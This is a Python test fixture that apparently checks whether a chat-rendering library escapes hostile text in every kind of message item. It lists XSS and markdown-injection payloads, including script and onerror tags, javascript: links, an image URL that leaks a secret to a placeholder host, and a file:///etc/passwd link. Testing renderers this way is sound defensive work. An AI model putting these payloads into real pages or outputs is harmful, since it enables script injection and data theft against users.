"""Texts by a model that tries to run something, and every place where it can put a text."""

from __future__ import annotations

from typing import Any

from streamkit import (
    FunctionCall,
    FunctionCallOutput,
    Message,
    Note,
    OutputAudio,
    OutputImage,
    OutputText,
    Reasoning,
    Refusal,
    UnknownItem,
    WebSearchCall,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<!-- --><![CDATA[ <b> ]]><?php ?><!DOCTYPE x>",
    '"><b onmouseover="alert(1)',
    "'><style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](//evil.example) [z](file:///etc/passwd)",
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x](https://e.example/'onmouseover='alert(1))",
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "![x](https://e.example/?leak=secret)",
    "![x](x onerror=alert(1))",
    "<https://e.example/<script>>",
    "<javascript:alert(1)>",
    "`<script>`` <b>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>\n<b>\n',
    "~~~\n</code></pre><script>alert(1)</script>",
    "| a | <script>x</script> |\n|---|---|\n| `|<b>` | </td><script> |",
    "- <script>\n  - </li></ul><script>\n\n      <b>",
    "> <script>\n> > </blockquote><script>",
    "# </h1><script>",
    "**<b>** __<i>__ *<u>* ~~<s>~~ ***<q>***",
    "\\<script\\> \\&lt;b&gt;",
    "a\x00b\x1b]0;title\x07c\u202ed\ud83d",
    "</details></summary><script>",
]


def everywhere(text: str) -> dict[str, Any]:
    """Every place where a model can put a text."""
    return {
        "message": Message("assistant", text),
        "user": Message("user", text),
        "refusal": Message("assistant", [Refusal(text)]),
        "picture": Message("assistant", [OutputImage(text)]),
        "picture address": Message("assistant", [OutputImage(f"https://e.example/{text}")]),
        "speech": Message("assistant", [OutputAudio(transcript=text)]),
        "reasoning": Reasoning(content=[text], summary=[text]),
        "call name": FunctionCall(name=text, arguments="{}"),
        "arguments": FunctionCall(name="f", arguments=text),
        "output": FunctionCallOutput("1", text),
        "output parts": FunctionCallOutput("1", [OutputText(text)]),
        "search": WebSearchCall(action={"query": text}),
        "note": Note(text),
        "unknown": UnknownItem({"type": text, text: text}),
    }
